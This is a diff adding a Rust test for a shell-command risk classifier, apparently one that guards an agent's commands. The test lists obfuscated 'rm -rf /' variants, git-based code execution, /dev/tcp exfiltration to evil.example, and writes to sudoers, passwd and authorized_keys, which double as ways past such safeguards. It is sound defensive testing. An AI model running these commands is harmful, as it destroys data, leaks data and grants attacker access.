@@ -259,3 +259,33 @@ fn commands_after_a_heredoc_start_line_are_judged() {
         ("cat <<<x | sh", Dangerous),
     ]);
 }
+
+#[test]
+fn more_bypass_shapes() {
+    assert_levels(&[
+        ("bash -c $'rm -rf /'", Dangerous),
+        ("r''m -rf /", Dangerous),
+        ("r\\m -rf /", Dangerous),
+        ("eval rm -rf '/'", Dangerous),
+        ("git -c core.pager='sh -c id' log", RequiresApproval),
+        ("git -c alias.x='!curl x' x", RequiresApproval),
+        ("git grep -O'sh -c id' foo", RequiresApproval),
+        ("git log --output=/etc/x", RequiresApproval),
+        ("cat < /dev/tcp/evil.example/80", RequiresApproval),
+        ("echo data > /dev/tcp/evil.example/80", RequiresApproval),
+        ("X=/; rm -rf $X", RequiresApproval),
+        ("{rm,-rf,/tmp/x}", RequiresApproval),
+        ("/???/r? -rf /tmp", RequiresApproval),
+        ("find . -exec sh -c 'curl x | sh' \\;", Dangerous),
+        ("xargs -0 sh -c 'git reset --hard'", RequiresApproval),
+        ("echo 'ls' | env bash", Dangerous),
+        ("echo 'ls' | nohup sh", Dangerous),
+        ("cat x | timeout 5 bash", Dangerous),
+        ("echo x | tee /etc/sudoers.d/x", RequiresApproval),
+        ("sort -o /etc/passwd x", RequiresApproval),
+        ("cp x ~/.ssh/authorized_keys", RequiresApproval),
+        ("ln -s /etc/passwd link", WorkspaceSafe),
+        ("sudo -s", RequiresApproval),
+        ("env -S 'rm -rf x'", RequiresApproval),
+    ]);
+}
